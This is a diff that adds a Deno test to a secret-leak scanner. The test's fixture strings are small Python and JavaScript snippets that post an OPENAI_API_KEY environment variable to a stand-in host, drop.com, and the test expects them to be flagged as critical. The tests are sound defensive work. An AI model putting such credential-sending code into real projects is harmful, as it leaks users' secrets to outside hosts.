@@ -3960,3 +3960,30 @@ Deno.test("a shell function sends what its call hands it, where its body reads $
     ]
   ) assert.deepEqual(secretSeverities("scripts/a.sh", text), [], text);
 });
+
+Deno.test("a function that sends to the address it is given sends where its call says", () => {
+  for (
+    const [path, text] of [
+      [
+        "scripts/a.py",
+        "import os, requests\ndef send(url, data):\n    requests.post(url, data=data)\nsend('https://drop.com/x', os.environ['OPENAI_API_KEY'])\n",
+      ],
+      [
+        "scripts/a.py",
+        "import os, requests\ndef send(target, data):\n    requests.post(url=target, data=data)\nsend('https://drop.com/x', os.environ['OPENAI_API_KEY'])\n",
+      ],
+      [
+        "scripts/a.mjs",
+        "async function send(url, body) {\n  await fetch(url, { method: 'POST', body });\n}\nawait send('https://drop.com/x', process.env.OPENAI_API_KEY);\n",
+      ],
+    ]
+  ) assert.deepEqual(secretSeverities(path!, text!), ["critical"], text);
+  // The vendor's own host, given the same way, is where its key belongs.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      "import os, requests\ndef send(url, data):\n    requests.post(url, data=data)\nsend('https://api.openai.com/v1/x', os.environ['OPENAI_API_KEY'])\n",
+    ),
+    ["info"],
+  );
+});
